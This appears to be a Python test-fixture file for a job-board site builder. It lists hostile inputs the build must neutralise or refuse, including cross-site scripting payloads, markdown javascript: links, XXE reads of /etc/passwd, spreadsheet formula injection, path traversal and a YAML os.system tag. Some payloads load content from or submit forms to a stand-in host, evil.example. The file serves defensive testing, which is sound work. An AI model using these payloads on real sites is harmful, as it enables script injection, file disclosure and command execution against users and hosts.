"""What a stranger could write into a posting to harm readers, editors or hosts of a board: texts for fields and bodies.

Whatever runs calls `pwned`, which the test listens for; whatever asks another host asks `evil.example`.
"""
RUN = "pwned()"

# For any text field. Some are refused in some fields, so each file has only one.
TEXTS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea></style></template></noscript><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"\"><img src=x onerror={RUN}>",
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f"\" onmouseover=\"{RUN}\" autofocus onfocus=\"{RUN}\" x=\"",
    f"\" onfocus={RUN} autofocus tabindex=0 ",
    f"x\"\u0301 onfocus={RUN} autofocus tabindex=0 y=\"\u0301",
    f"<\u0301script>{RUN}</script>",
    f"javascript:{RUN}",
    f"javascript:\u0e33={RUN}",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<!--<script>{RUN}//--></script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    "]]></description><evil/><description><![CDATA[",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;" + RUN + "&lt;/script&gt;",
    "&#60;script&#62;" + RUN + "&#60;/script&#62;",
    "\",\"evil\":\"injected",
    "\\\",\\\"evil\\\":\\\"injected",
    "\\u003cscript\\u003e" + RUN,
    "</script><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css'</style>",
    "<form action=//evil.example/><button>Apply",
    "{{ site.title }}{% for x in site %}{{ x }}{% endfor %}{# gone #}",
    "${" + RUN + "}`${" + RUN + "}`",
    "DTSTART:19700101T000000Z\\nATTACH:file:///etc/passwd",
    "a;b,c\\;d\\,e\\n\\N:f",
    "END:VEVENT\\r\\nBEGIN:VEVENT",
    "=HYPERLINK(\"//evil.example\",\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\uff1d1+1", "=\u03381+1",
    "a,\u0301b", "a\"\u0301,=1+1",
    "\u202egnp.exe \u2066x\u2069 \u200f\u061c",
    "zero\u200bwidth\u200d\u2060\ufeff joined",
    "\u2028line\u2029paragraph",
    "\U000e0041\U000e0042 tags", "a" + "\u0301" * 200, "\ufdfa" * 60, "\U0001f468\u200d\U0001f469\u200d\U0001f467 " * 8,
    "cafe\u0301 caf\u00e9 \u212b \u00c5 A\u030a",
]

# Elements with the names that the theme's script looks for.
NAMES_OF_THE_SCRIPT = [
    "<div class=\"filters search\" id=\"_q\"><p class=\"clear\">a</p></div>\n\n<p class=\"yours\" id=\"_card\">b</p>\n\n"
    "<div class=\"list\" id=\"_list\"><h2><span>c</span> <small>d</small></h2><div class=\"found none\" id=\"_none\">e</div></div>",
    "<div class=\"opening\"><div class=\"side\"><div class=\"apply due\"><p class=\"act note\" id=\"_more\">a</p></div></div></div>"
    "\n\n<p class=\"due\"><time datetime=\"2020-01-01\">b</time></p>",
]

# Bodies that must build. Their contents may be dropped, but must never run. Raw HTML is tried both dropped and filtered.
BODIES = [
    *TEXTS,
    *NAMES_OF_THE_SCRIPT,
    f"[a](javascript:{RUN}) [b](JaVaScRiPt:{RUN}) [c](java&#115;cript:{RUN}) [d](javascript&colon;{RUN})",
    f"[a](<java\tscript:{RUN}>) [b](&#1;javascript:{RUN}) [c](  javascript:{RUN})",
    f"[a](vbscript:{RUN}) [b](data:text/html,<script>{RUN}</script>) [c](data:image/svg+xml,<svg/onload={RUN}>)",
    f"![a](javascript:{RUN}) ![b](data:image/svg+xml;base64,PHN2Zy8+) ![\"onerror=\"{RUN}](https://evil.invalid/x.png)",
    f"[a](https://example.org \"x\\\" onmouseover=\\\"{RUN}\") [b](https://example.org 'x\" onmouseover=\"{RUN}')",
    f"[a][r] [b][s]\n\n[r]: javascript:{RUN}\n[s]: https://example.org \"\\\" onclick={RUN} \"",
    f"<javascript:{RUN}> <https://example.org/\"onmouseover={RUN}> https://example.org/\"onmouseover={RUN}",
    f"[javascript:\u0e33={RUN}](javascript:\u0e33={RUN}) <javascript:\u0e33={RUN}>",
    f"<a href=\"javascript:\u0e33={RUN}\">a</a> <a href='x\"\u0301 onmouseover={RUN} y=\"'>b</a>",
    f"<img src=x alt='\"\u0301 onerror={RUN} '> <img src=x title='\"\u0301\u0301 onerror={RUN} '>",
    f"<a href=\"java&Tab;script:{RUN}\">a</a> <a href=\"&#x6A;avascript:{RUN}\">b</a> <a href=' javascript:{RUN}'>c</a>",
    f"<img src=x onerror={RUN}>\n\n<IMG/SRC=x/ONERROR={RUN}>\n\n<img src=x\nonerror\n=\n{RUN}>",
    f"<div title=\"`\" onmouseover={RUN}>a</div>\n\n<p title=`x` onclick={RUN}>b</p>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text>a</text></a></svg>\n\n<svg><set onbegin={RUN}></svg>",
    f"<details open ontoggle={RUN}><summary>a</summary></details>\n\n<video><source onerror={RUN}></video>",
    f"<script\n>{RUN}</script\n>\n\n<scr<script>ipt>{RUN}</scr</script>ipt>\n\n<script/x>{RUN}</script>",
    f"<style>@import '//evil.example/';</style><p style=\"background:url(//evil.example/)\">a</p>",
    "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<iframe src='//evil.example/'></iframe><object data='//evil.example/'></object><embed src='//evil.example/'>",
    "<form action='//evil.example/'><input name=a autofocus><button formaction='javascript:pwned()'>b</button></form>",
    f"<p title=x>\u0301<script>{RUN}</script>\n\n<a\u0301 href=javascript:{RUN}>b</a>",
    f"<!--> <script>{RUN}</script> -->\n\n<!---> <img src=x onerror={RUN}> -->\n\n<? <img src=x onerror={RUN}> ?>",
    f"<![CDATA[ <img src=x onerror={RUN}> ]]>\n\n<!x <img src=x onerror={RUN}> >",
    f"<div title=\"never ends <img src=x onerror={RUN}>\n\n<b <img src=x onerror={RUN}>",
    f"```\"><script>{RUN}</script>\n</code></pre><script>{RUN}</script>\n```",
    f"``` x\" onmouseover=\"{RUN}\ncode\n```",
    f"## \"><script>{RUN}</script> {{#x onclick={RUN}}}\n\n### <img src=x onerror={RUN}>\n\n## __proto__\n\n## constructor",
    f"| <script>{RUN}</script> | \" onclick={RUN} |\n|---|---|\n| <img src=x onerror={RUN}> | `<script>{RUN}</script>` |",
    f"[^\"onclick={RUN}]\n\n[^\"onclick={RUN}]: [a](javascript:{RUN}) <img src=x onerror={RUN}>",
    f"- [ ] <img src=x onerror={RUN}>\n- [x] [a](javascript:{RUN})",
    f"~~<script>{RUN}</script>~~ **\"><script>{RUN}</script>** `<script>{RUN}</script>`",
    "{% include '/etc/passwd' %}{{ ''.__class__ }}{% raw %}<script>pwned()</script>{% endraw %}",
    f"www.example.org/\"onmouseover={RUN} a@b.example\"onmouseover={RUN} http://x.example/<script>{RUN}</script>",
]

# Fields (as YAML) that must be refused, with a part of the message.
REFUSED_FIELDS = [
    (f"apply: \"javascript:{RUN}\"", "not a web address"),
    (f"apply: \"JavaScript:{RUN}\"", "not a web address"),
    (f"apply: \"javascript:\u0e33={RUN}\"", "not a web address"),
    ("apply: \"data:text/html,x\"", "not a web address"),
    ("apply: \"//evil.example/\"", "not a web address"),
    ("apply: \"https://\u202eevil.example/\"", "not a web address"),
    ("apply: \"https://example.org/\\\" onclick=x\"", "not a web address"),
    ("apply: {email: \"a@b.example?bcc=c@d.example\"}", "not an e-mail address"),
    ("apply: {email: \"a@b.example\\r\\nBcc: c@d.example\"}", "error:"),
    ("source: {system: x, url: \"javascript:pwned()\"}", "not a web address"),
    ("aliases: [\"../../../up\"]", "cannot be a path"),
    ("aliases: [\"/a/../../up/\"]", "cannot be a path"),
    ("aliases: [\"../\u0301up\"]", "cannot be a path"),
    ("aliases: [\"/.board/manifest\"]", "cannot be a path"),
    ("aliases: [\"/.git/config\"]", "cannot be a path"),
    ("aliases: [\".htaccess\"]", "cannot be a path"),
    ("aliases: [\"//evil.example/\"]", "cannot be a path"),
    ("aliases: [\"C:\\\\up\"]", "cannot be a path"),
    ("aliases: [\"..\\\\up\"]", "cannot be a path"),
    ("aliases: [\"/a\\0b/\"]", "error:"),
    ("aliases: [\"/a\\nb/\"]", "error:"),
    ("aliases: [\"/\"]", "error:"),
    ("aliases: [\"/index.html\"]", "would be written twice"),
    ("aliases: [\"/postings.json\"]", "would be written twice"),
    ("translation_of: \"../../../up\"", "unknown"),
    ("extra: {note: \"\\e[31m\"}", "control character U+001B"),
    ("team: \"\\e]0;pwned\\a\"", "control character U+001B"),
    ("extra: &a [*a]", "anchor"),
    ("extra: {a: &a [x, x], b: [*a, *a]}", "anchor"),
    ("extra: !!python/object/apply:os.system [\"id\"]", "tag"),
    ("extra: {<<: {a: 1}}", "merge"),
    ("extra: " + "[" * 200, "error:"),
    ("extra: " + "{a: " * 60 + "1" + "}" * 60, "error:"),
]

# Bodies that must be refused: their targets do not exist, or must not be shown.
REFUSED_BODIES = [
    ("[a](../../../../../../etc/passwd)", "link."), ("![a](../../../../../../etc/passwd)", "link."),
    ("![a](/etc/passwd)", "link."), ("[a](..%2f..%2f..%2fetc/passwd)", "link."), ("[a](../\u0301../up)", "link."),
    ("![a](../../board.yml)", "link."), ("[a](file:///etc/passwd) [b](../../../up)", "link."),
]

# A site's own templates that must be refused.
REFUSED_TEMPLATES = [
    "{% include '../../../../etc/passwd' %}", "{% include '/etc/passwd' %}", "{% extends '../board.yml' %}",
    "{% import '../content/places.yml' as p %}", "{{ ''.__class__.__mro__ }}", "{% include '.board/manifest' %}",
]
